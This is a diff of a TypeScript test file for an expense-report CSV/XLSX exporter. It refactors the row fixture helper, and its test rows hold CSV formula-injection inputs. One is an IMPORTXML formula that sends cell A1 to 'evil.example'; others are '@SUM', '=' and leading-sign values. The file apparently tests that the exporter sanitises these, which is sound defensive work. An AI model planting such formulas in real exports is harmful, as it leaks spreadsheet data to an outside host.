@@ -1,29 +1,19 @@
 import { readXlsx } from 'hucre/xlsx';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import type { ExpenseRow } from '../contract.ts';
+import { expenseRow } from '#testing/data/expenses.ts';
+import type { ExpenseRow } from '../record.ts';
 import { exportReport } from './export.ts';
 
-function row(_rowIndex: number, part: Partial<ExpenseRow>): ExpenseRow {
-  return {
-    _rowIndex,
-    Date: '2025-11-21',
-    Description: 'Taxi',
-    Category: 'Travel',
-    Amount: 12.5,
-    Receipt: '',
-    Photo: '',
-    Notes: '',
-    ...part,
-  };
-}
+const row = (_rowIndex: number, part: Partial<ExpenseRow>) =>
+  expenseRow(_rowIndex, 'Taxi', { date: '2025-11-21', amount: 12.5, ...part });
 
 const hostile = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
 const rows = [
   row(2, {}),
-  row(3, { Description: hostile, Notes: 'two\nlines, "quoted"' }),
-  row(4, { Amount: -3, Receipt: '-12', Notes: '+1 555 0100', Category: '@SUM(A1)' }),
-  row(5, { Amount: '12abc', Notes: '\t=1+1' }),
+  row(3, { description: hostile, notes: 'two\nlines, "quoted"' }),
+  row(4, { amount: -3, receipt: '-12', notes: '+1 555 0100', category: '@SUM(A1)' }),
+  row(5, { amount: '12abc', notes: '\t=1+1' }),
 ];
 
 describe('the CSV of a report', () => {
